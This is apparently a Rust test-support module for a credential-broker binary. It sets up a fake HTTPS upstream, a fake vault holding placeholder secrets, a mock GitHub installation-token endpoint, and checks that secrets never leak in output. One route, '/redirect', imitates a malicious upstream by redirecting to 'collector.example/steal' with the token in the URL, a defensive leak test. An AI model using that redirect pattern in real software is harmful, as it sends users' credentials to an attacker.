//! The broker tests' world: a fake HTTPS upstream with a CA made at test
//! time (rcgen; served with tokio-rustls and hyper), a fake vault holding
//! the brokered secrets, and the real binary started as `broker` with its
//! stderr collected line by line.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::{Request, Response};
use infisical_fakevault::{self as fakevault, CfGate, FakeVault, RunningVault, SecretEntry, VaultData};
use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
use tokio_rustls::rustls;

pub use crate::proxy_support::{Binary, spawn_binary};

pub const BIN: &str = env!("CARGO_BIN_EXE_infisical-mcp-rs");
pub const PROJECT: &str = fakevault::DEMO_PROJECT_ID;
pub const FOLDER: &str = "/agents/warden/api";
pub const KEY: &str = "UPSTREAM_TOKEN";
/// The brokered value: characters that change under base64 and percent-encoding.
pub const VALUE: &str = "tok-FAKE-upstream/7Qz9+x=y";
pub const ROTATED: &str = "tok-FAKE-rotated-0001/a+b";
pub const WRITER_ID: &str = "broker-test-writer";
/// The GitHub App bot's folder, and what the fake GitHub expects of it.
pub const BOT_FOLDER: &str = "/agents/warden/bot";
pub const APP_ID: &str = "3501352";
pub const INSTALLATION_ID: &str = "61508217";
/// Installation tokens the fake GitHub mints: this prefix and the mint's number.
pub const MINTED: &str = "ghs_FAKEbrokerMINTED";
pub const WRITER_SECRET: &str = "broker-test-writer-secret-0001";

pub type Body = http_body_util::combinators::BoxBody<Bytes, std::convert::Infallible>;

/// One request as the upstream saw it.
#[derive(Debug, Clone)]
pub struct Seen {
    pub method: String,
    pub target: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Seen {
    pub fn header(&self, name: &str) -> Vec<String> {
        self.headers
            .iter()
            .filter(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.clone())
            .collect()
    }
}

/// The bot's throwaway RSA key, made once per test run and never stored.
pub fn bot_key() -> &'static rsa::RsaPrivateKey {
    static KEY: std::sync::OnceLock<rsa::RsaPrivateKey> = std::sync::OnceLock::new();
    KEY.get_or_init(|| rsa::RsaPrivateKey::new(&mut rsa::rand_core::OsRng, 2048).unwrap())
}

pub fn bot_key_pem() -> String {
    use rsa::pkcs1::EncodeRsaPrivateKey;
    bot_key()
        .to_pkcs1_pem(rsa::pkcs8::LineEnding::LF)
        .unwrap()
        .to_string()
}

/// Whether `jwt` is an RS256 App JWT for [`APP_ID`] signed by the bot's key,
/// as GitHub checks it.
fn app_jwt_ok(jwt: &str) -> bool {
    use base64::Engine as _;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    use rsa::signature::Verifier;
    let parts: Vec<&str> = jwt.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        return false;
    };
    let (Ok(claims), Ok(signature)) = (URL_SAFE_NO_PAD.decode(claims), URL_SAFE_NO_PAD.decode(signature))
    else {
        return false;
    };
    let claims: serde_json::Value = serde_json::from_slice(&claims).unwrap_or_default();
    let Ok(signature) = rsa::pkcs1v15::Signature::try_from(signature.as_slice()) else {
        return false;
    };
    let key = rsa::pkcs1v15::VerifyingKey::<rsa::sha2::Sha256>::new(bot_key().to_public_key());
    claims["iss"] == APP_ID
        && key
            .verify(
                format!("{header}.{claims_b64}", claims_b64 = parts[1]).as_bytes(),
                &signature,
            )
            .is_ok()
}

/// `POST /app/installations/{id}/access_tokens`, as GitHub answers it. The
/// first token expires within the broker's refresh margin, later ones in 2030.
fn mint(seen: &Seen, mints: usize) -> Response<Body> {
    let jwt = seen
        .header("authorization")
        .first()
        .and_then(|v| v.strip_prefix("Bearer ").map(str::to_string))
        .unwrap_or_default();
    if seen.method != "POST" || !app_jwt_ok(&jwt) {
        let body = r#"{"message":"A JSON web token could not be decoded","documentation_url":"https://docs.github.com/rest"}"#;
        return Response::builder().status(401).body(full(body)).unwrap();
    }
    let expires_at = if mints == 1 {
        let soon = time::OffsetDateTime::now_utc() + time::Duration::minutes(1);
        soon.format(&time::format_description::well_known::Rfc3339)
            .unwrap()
    } else {
        "2030-01-01T12:00:00Z".to_string()
    };
    let body = serde_json::json!({
        "token": format!("{MINTED}{mints:04}"),
        "expires_at": expires_at,
        "permissions": {"issues": "write"},
    });
    Response::builder()
        .status(201)
        .header("content-type", "application/json")
        .body(full(body.to_string()))
        .unwrap()
}

pub struct Upstream {
    pub addr: SocketAddr,
    pub ca_pem: String,
    pub seen: Arc<Mutex<Vec<Seen>>>,
}

impl Upstream {
    pub fn origin(&self) -> String {
        format!("https://127.0.0.1:{}", self.addr.port())
    }

    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    /// The requests that asked for `target`.
    pub fn seen_at(&self, target: &str) -> Vec<Seen> {
        self.seen().into_iter().filter(|s| s.target == target).collect()
    }

    /// The installation-token mints the fake GitHub answered.
    pub fn mints(&self) -> Vec<Seen> {
        self.seen()
            .into_iter()
            .filter(|s| s.target.starts_with("/app/installations/"))
            .collect()
    }
}

fn full(text: impl Into<Bytes>) -> Body {
    Full::new(text.into()).boxed()
}

/// The credential the request carried (the first of the injected forms).
fn credential(seen: &Seen) -> String {
    seen.header("authorization")
        .first()
        .map(|v| v.trim_start_matches("Bearer ").to_string())
        .or_else(|| seen.header("x-api-key").first().cloned())
        .unwrap_or_default()
}

async fn route(seen: Seen, mints: usize) -> Response<Body> {
    let path = seen.target.split('?').next().unwrap_or("").to_string();
    let token = credential(&seen);
    let echo = || {
        let mut text = format!("{} {}\n", seen.method, seen.target);
        for (n, v) in &seen.headers {
            text.push_str(&format!("{n}: {v}\n"));
        }
        text.push('\n');
        text.push_str(&String::from_utf8_lossy(&seen.body));
        text
    };
    match path.as_str() {
        p if p == format!("/app/installations/{INSTALLATION_ID}/access_tokens") => mint(&seen, mints),
        p if p.starts_with("/echo") => Response::new(full(echo())),
        "/redirect" => Response::builder()
            .status(302)
            .header("location", format!("https://collector.example/steal?t={token}"))
            .header("x-debug-auth", seen.header("authorization").join(","))
            .body(full(""))
            .unwrap(),
        "/gzip" => {
            use std::io::Write;
            let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            enc.write_all(echo().as_bytes()).unwrap();
            Response::builder()
                .header("content-encoding", "gzip")
                .body(full(enc.finish().unwrap()))
                .unwrap()
        }
        "/chunked" => {
            // The value cut in two, in two chunks with a pause between them.
            let text = format!("{{\"token\":\"{token}\"}}");
            let cut = text.len() / 2;
            let (a, b) = (
                Bytes::from(text[..cut].to_string()),
                Bytes::from(text[cut..].to_string()),
            );
            let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::convert::Infallible>>(2);
            tokio::spawn(async move {
                let _ = tx.send(Ok(Frame::data(a))).await;
                tokio::time::sleep(Duration::from_millis(50)).await;
                let _ = tx.send(Ok(Frame::data(b))).await;
            });
            let stream =
                futures::stream::unfold(rx, |mut rx| async move { rx.recv().await.map(|f| (f, rx)) });
            Response::new(StreamBody::new(stream).boxed())
        }
        "/rotating" => {
            if token == ROTATED {
                Response::new(full(format!("welcome {token}")))
            } else {
                Response::builder()
                    .status(401)
                    .body(full(format!("bad token {token}")))
                    .unwrap()
            }
        }
        "/always401" => Response::builder().status(401).body(full("no")).unwrap(),
        _ => Response::builder()
            .status(404)
            .body(full("no such endpoint"))
            .unwrap(),
    }
}

/// Starts the fake HTTPS upstream on 127.0.0.1:0 with a fresh CA.
pub async fn start_upstream() -> Upstream {
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(DnType::CommonName, "broker test CA");
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let leaf_key = KeyPair::generate().unwrap();
    let leaf_params = CertificateParams::new(vec!["127.0.0.1".to_string(), "localhost".to_string()]).unwrap();
    let leaf = leaf_params.signed_by(&leaf_key, &ca, &ca_key).unwrap();

    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
    let log = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                break;
            };
            let acceptor = acceptor.clone();
            let log = log.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let service = hyper::service::service_fn(move |req: Request<Incoming>| {
                    let log = log.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body
                            .collect()
                            .await
                            .map(|b| b.to_bytes().to_vec())
                            .unwrap_or_default();
                        let seen = Seen {
                            method: parts.method.to_string(),
                            target: parts.uri.to_string(),
                            headers: parts
                                .headers
                                .iter()
                                .map(|(n, v)| {
                                    (n.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned())
                                })
                                .collect(),
                            body,
                        };
                        let mints = {
                            let mut log = log.lock().unwrap();
                            log.push(seen.clone());
                            log.iter()
                                .filter(|s| s.target.starts_with("/app/installations/"))
                                .count()
                        };
                        Ok::<_, std::convert::Infallible>(route(seen, mints).await)
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    Upstream {
        addr,
        ca_pem: ca.pem(),
        seen,
    }
}

/// The sample vault plus the brokered secrets, and an identity that may
/// rotate them.
pub async fn start_vault() -> RunningVault {
    let data = VaultData::sample()
        .folder(PROJECT, "dev", FOLDER)
        .add_secret(PROJECT, "dev", FOLDER, SecretEntry::new(KEY, VALUE))
        .add_secret(PROJECT, "dev", FOLDER, SecretEntry::new("API_USER", "svc-user"))
        .add_secret(
            PROJECT,
            "dev",
            FOLDER,
            SecretEntry::new("API_PASSWORD", "pw-FAKE-basic-77"),
        )
        .folder(PROJECT, "dev", BOT_FOLDER)
        .add_secret(PROJECT, "dev", BOT_FOLDER, SecretEntry::new("APP_ID", APP_ID))
        .add_secret(
            PROJECT,
            "dev",
            BOT_FOLDER,
            SecretEntry::new("INSTALLATION_ID", INSTALLATION_ID),
        )
        .add_secret(
            PROJECT,
            "dev",
            BOT_FOLDER,
            SecretEntry::new("PRIVATE_KEY_PEM", &bot_key_pem()),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let vault = FakeVault::new(data)
        .gate(CfGate::Off)
        .identity(fakevault::demo_identity())
        .start(listener)
        .await
        .unwrap();
    vault.add_identity(fakevault::Identity::new(
        WRITER_ID,
        WRITER_SECRET,
        vec![fakevault::PermissionRule::new(
            &[fakevault::Action::Read, fakevault::Action::Edit],
            "dev",
            "/agents/**",
        )],
    ));
    vault
}

/// Changes the brokered value in the vault, as an operator rotating it would.
pub async fn rotate(vault: &RunningVault, value: &str) {
    let token = vault.issue_token(WRITER_ID);
    let answer = reqwest::Client::new()
        .patch(format!("{}/api/v4/secrets/{KEY}", vault.base_url()))
        .bearer_auth(token)
        .json(&serde_json::json!({
            "projectId": PROJECT,
            "environment": "dev",
            "secretPath": FOLDER,
            "secretValue": value,
        }))
        .send()
        .await
        .unwrap();
    assert!(
        answer.status().is_success(),
        "rotation failed: {}",
        answer.status()
    );
}

/// The environment of a correctly configured broker.
pub fn broker_env(vault: &RunningVault) -> HashMap<String, String> {
    HashMap::from([
        ("INFISICAL_HOST_URL".into(), vault.base_url()),
        (
            "INFISICAL_UNIVERSAL_AUTH_CLIENT_ID".into(),
            fakevault::DEMO_CLIENT_ID.into(),
        ),
        (
            "INFISICAL_UNIVERSAL_AUTH_CLIENT_SECRET".into(),
            fakevault::DEMO_CLIENT_SECRET.into(),
        ),
        ("INFISICAL_PROJECT_ID".into(), PROJECT.into()),
        ("INFISICAL_SCOPE".into(), "dev:/agents/warden/**".into()),
        ("RUST_LOG".into(), "trace".into()),
    ])
}

/// A rules file for `upstream` in `dir`.
pub fn write_rules(dir: &std::path::Path, upstream: &Upstream) -> (std::path::PathBuf, std::path::PathBuf) {
    let rules = dir.join("rules.toml");
    let origin = upstream.origin();
    std::fs::write(
        &rules,
        format!(
            r#"
[[rule]]
name = "api"
upstream = "{origin}"
secret = "dev:{FOLDER}/{KEY}"
header = "Authorization"
template = "Bearer {{}}"
methods = ["GET", "POST", "PATCH"]
paths = ["/echo/**", "/echo", "/redirect", "/gzip", "/chunked", "/rotating", "/always401"]
use_only = true

[[rule]]
name = "keyed"
upstream = "{origin}"
secret = "dev:{FOLDER}/{KEY}"
query = "api_key"
paths = ["/echo/**"]

[[rule]]
name = "github"
upstream = "{origin}"
github_app = "dev:{BOT_FOLDER}"
github_api = "{origin}"
paths = ["/echo/**", "/always401"]
use_only = true

[[rule]]
name = "basic"
upstream = "{origin}"
secret = "dev:{FOLDER}/API_USER"
basic_password_secret = "dev:{FOLDER}/API_PASSWORD"
paths = ["/echo/**"]
"#
        ),
    )
    .unwrap();
    let ca = dir.join("ca.pem");
    std::fs::write(&ca, &upstream.ca_pem).unwrap();
    (rules, ca)
}

/// The real binary, started as a broker; its stderr is collected line by line.
pub struct Broker {
    pub bin: Binary,
    pub addr: SocketAddr,
}

/// `infisical-mcp-rs broker ARGS` with only `env` (plus PATH) set.
pub fn spawn(args: &[&str], env: &HashMap<String, String>) -> Binary {
    let mut argv = vec!["broker"];
    argv.extend_from_slice(args);
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    spawn_binary(&argv, &env)
}

impl Broker {
    /// Starts the broker and waits for its "listening" line to learn the port.
    pub fn start(args: &[&str], env: &HashMap<String, String>) -> Broker {
        let mut bin = spawn(args, env);
        let addr = bin.wait_listening_on("credential broker listening");
        Broker { bin, addr }
    }

    pub fn url(&self, path: &str) -> String {
        self.bin.url(path)
    }

    /// Stops the broker and returns everything it wrote to stderr.
    pub fn stop(mut self) -> String {
        self.bin.signal("TERM");
        self.bin.wait_exit();
        self.bin.stderr_text()
    }
}

/// Every form of `value` that must never be found in output.
pub fn forms(value: &str) -> Vec<String> {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    vec![
        value.to_string(),
        STANDARD.encode(value),
        URL_SAFE_NO_PAD.encode(value),
        percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC).to_string(),
    ]
}

pub fn assert_clean(what: &str, text: &str) {
    for value in [VALUE, ROTATED, "pw-FAKE-basic-77", MINTED] {
        for form in forms(value) {
            assert!(
                !text.contains(&form),
                "{what} holds a form of a brokered value: {form}\n{text}"
            );
        }
    }
    // The bot's key: any line of its PEM body.
    let pem = bot_key_pem();
    for line in pem.lines().filter(|l| !l.starts_with("-----")).take(5) {
        assert!(
            !text.contains(line),
            "{what} holds a line of the bot's private key\n{text}"
        );
    }
}

/// A raw HTTP/1.1 exchange, for targets and headers no client library sends.
pub fn raw(addr: SocketAddr, request: &str) -> String {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}
